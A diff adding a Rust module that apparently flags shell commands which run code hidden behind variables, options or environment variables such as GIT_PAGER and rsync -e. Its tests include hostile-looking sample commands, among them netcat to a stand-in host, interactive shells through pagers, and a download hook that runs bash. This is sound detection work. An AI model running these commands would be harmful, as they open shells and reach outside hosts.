@@ -1,0 +1,192 @@
+//! Commands that run what stands in one of their words: what only a variable tells, and what an option says.
+
+use super::hazard::{Hazard, hazard};
+use crate::command_line::{CommandLine, Part, Shell, Word, WordKind};
+use crate::obstacle::Obstacle;
+use crate::operand_effects::inner_commands;
+use crate::pattern::MayRun;
+use crate::programs;
+use crate::programs::class::Class;
+use crate::programs::fact::Fact;
+use crate::programs::name::canonical;
+use crate::programs::runs::Wrapper;
+
+/// More text than this is not taken for a command that an option runs, in bytes.
+const MAX_TEXT: usize = 4 * 1024;
+
+/// The program of `part` that runs a text of which only a variable or another command tells what runs: `eval "$x"`,
+/// `sh -c "$x"`, `python3 -c "$x"`, `xargs -I{} sh -c {}`.
+pub(super) fn runs_untold_text(part: &Part) -> Option<String> {
+    let (program, words) = part.words.split_first()?;
+    let name = canonical(&program.text);
+    let known = programs::of(&name);
+    let untold = if known.is(Fact::RunsWords) && known.is(Fact::RunsText) {
+        let text = words.iter().map(|word| word.text.as_str()).collect::<Vec<_>>().join(" ");
+        words.iter().any(|word| word.kind == WordKind::Varies) && starts_untold(&text)
+    } else if known.is(Fact::RunsScripts) {
+        script_word(words).is_some_and(|word| word.kind == WordKind::Varies && starts_untold(&word.text))
+            || part.given.iter().any(|text| is_untold(text))
+    } else if let Class::Script(interpreter) = known.class {
+        let mut pairs = words.iter().zip(words.iter().skip(1));
+        pairs.any(|(option, value)| {
+            interpreter.code.split(' ').any(|code| code == option.text && code != "-m")
+                && value.kind == WordKind::Varies
+                && is_untold(&value.text)
+        })
+    } else {
+        known.wrapper.is_some_and(|wrapper| wraps_untold(wrapper, words))
+            || (known.is(Fact::Fed) || known.is(Fact::FindsFiles)) && fills_in_script(words)
+    };
+    untold.then_some(name)
+}
+
+/// The word behind the options of a shell with a `c` in them.
+fn script_word(words: &[Word]) -> Option<&Word> {
+    let is_option = |word: &Word| word.text.starts_with('-') && !word.text.starts_with("--");
+    let at = words.iter().position(|word| is_option(word) && word.text.contains('c'))?;
+    words.iter().skip(at + 1).find(|word| !word.text.starts_with(['-', '+']))
+}
+
+/// Whether `text` is nothing but variables, outputs of commands and what another program fills in.
+fn is_untold(text: &str) -> bool {
+    let text = text.trim();
+    text.starts_with(['$', '`', '\u{2026}', '{']) && !text.contains([' ', ';', '\n'])
+}
+
+/// Whether the name of a program that `text`, a script of a shell, runs is not written out.
+fn starts_untold(text: &str) -> bool {
+    if is_untold(text) {
+        return true;
+    }
+    let line = CommandLine::analyse(text, Shell::Bash);
+    let varies = |part: &Part| part.program().is_some_and(|name| name.starts_with(['$', '`', '\u{2026}', '{']));
+    line.obstacle == Some(Obstacle::ProgramVaries) || line.parts.iter().any(varies)
+}
+
+/// Whether a shell among `words` gets its script from what is filled in: `xargs sh -c`, `find -exec sh -c {} \;`.
+fn fills_in_script(words: &[Word]) -> bool {
+    let is_shell = |word: &Word| programs::of(&canonical(&word.text)).is(Fact::RunsScripts);
+    let Some(behind) = words.iter().position(is_shell).and_then(|at| words.get(at + 1..)) else { return false };
+    let takes_script = behind.first().is_some_and(|word| word.text.starts_with('-') && word.text.ends_with('c'));
+    takes_script && script_word(behind).is_none_or(|word| is_untold(&word.text))
+}
+
+/// Whether the program behind a wrapper is not written out: `timeout 5 $X`. `command -v $X` only looks it up.
+fn wraps_untold(wrapper: &Wrapper, words: &[Word]) -> bool {
+    let mut duration = wrapper.duration;
+    let mut rest = words.iter();
+    while let Some(word) = rest.next() {
+        match word.text.as_str() {
+            "-v" | "-V" | "-l" => return false,
+            valued if wrapper.valued.contains(&valued) => _ = rest.next(),
+            option if option.starts_with('-') => {}
+            setting if word.kind == WordKind::Exact && setting.contains('=') => {}
+            _ if duration => duration = false,
+            program => return word.kind == WordKind::Varies && program.starts_with(['$', '`']),
+        }
+    }
+    false
+}
+
+/// What a command does that `part` is told to run by an option or a variable, as if it ran alone: `rsync -e 'sh -i'`,
+/// `GIT_PAGER='sh -i' git log`.
+pub(super) fn told_to_run(part: &Part) -> Option<Hazard> {
+    let name = canonical(part.program()?);
+    let known = programs::of(&name);
+    let words = part.words.get(1..).unwrap_or_default();
+    let nexts = words.iter().skip(1).map(Some).chain(std::iter::once(None));
+    let by_option = words.iter().zip(nexts).filter_map(|(option, next)| {
+        let text = option.text.as_str();
+        let runs = !known.running.is_empty() && text.starts_with('-') && inner_commands::runs_by_manual(&name, text);
+        let glued = || text.split_once('=').map(|(_, value)| (value, option.kind));
+        let apart = || next.map(|next| (next.text.as_str(), next.kind));
+        if runs { glued().or_else(apart) } else { None }
+    });
+    let by_variable = part.assignments.iter().filter_map(|text| {
+        let (variable, value) = text.split_once('=')?;
+        const RUN: &[&str] = &["PAGER", "EDITOR", "VISUAL", "BROWSER", "SSH_COMMAND", "EXTERNAL_DIFF", "ASKPASS"];
+        RUN.iter().any(|run| variable.ends_with(run)).then_some((value, WordKind::Exact))
+    });
+    by_option.chain(by_variable).find_map(|(value, kind)| match kind {
+        WordKind::Varies if is_untold(value) => Some(Hazard::Untold(name.clone())),
+        _ => of_text(value),
+    })
+}
+
+/// What `text`, a command line, does by itself. What stands in it again is shorter.
+fn of_text(text: &str) -> Option<Hazard> {
+    if text.len() > MAX_TEXT {
+        return None;
+    }
+    let line = CommandLine::analyse(text, Shell::Bash);
+    line.parts.iter().find_map(|part| hazard(part, &MayRun::of_part(part)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn found(line: &str) -> Option<Hazard> {
+        CommandLine::analyse(line, Shell::Bash).parts.iter().find_map(|part| hazard(part, &MayRun::of_part(part)))
+    }
+
+    #[test]
+    fn a_text_that_only_a_variable_tells_is_seen_by_nobody() {
+        for line in [
+            "eval \"$X\"",
+            "eval $X",
+            "eval $(tool env)",
+            "eval \"$(tool env)\"",
+            "sh -c \"$X\"",
+            "bash -lc \"$X a\"",
+            "bash -c \"cd a && $X\"",
+            "python3 -c \"$X\"",
+            "node -e \"$(cat a)\"",
+            "perl -e \"$X\"",
+            "timeout 5 $X a",
+            "nohup $X",
+            "env A=b $X",
+            "xargs sh -c",
+            "xargs -I{} sh -c '{}'",
+            "find . -exec sh -c {} \\;",
+        ] {
+            assert!(matches!(found(line), Some(Hazard::Untold(_))), "{line}: {:?}", found(line));
+        }
+        for line in [
+            "eval 'ls'",
+            "sh -c 'echo \"$1\"' _ a",
+            "bash -c \"cd $DIR && make\"",
+            "python3 -c \"print('$X')\"",
+            "timeout $SECONDS make",
+            "nice -n $N make",
+            "command -v $X",
+            "xargs -I{} sh -c 'echo {}'",
+            "xargs -n1 sh -c 'echo $0'",
+            "python3 -m \"$MODULE\"",
+        ] {
+            assert!(!matches!(found(line), Some(Hazard::Untold(_))), "{line}: {:?}", found(line));
+        }
+    }
+
+    #[test]
+    fn what_an_option_or_a_variable_tells_a_program_to_run_counts_as_if_it_ran_alone() {
+        for line in [
+            "rsync -e 'sh -c \"sh 0<&2\"' 127.0.0.1:a b",
+            "aria2c --on-download-complete=bash https://x.example/a",
+            "aria2c --on-download-error=$X https://x.example/a",
+            "split --filter='sudo x' a",
+            "GIT_PAGER='nc x.example 1' git log",
+            "MANPAGER='bash -i' man a",
+        ] {
+            assert!(found(line).is_some(), "{line}");
+        }
+        for line in [
+            "PAGER=cat git log",
+            "GIT_EDITOR=true git commit --amend",
+            "split --filter='gzip > $FILE.gz' a",
+            "tar -I zstd -cf a.tar b",
+        ] {
+            assert_eq!(found(line), None, "{line}");
+        }
+    }
+}
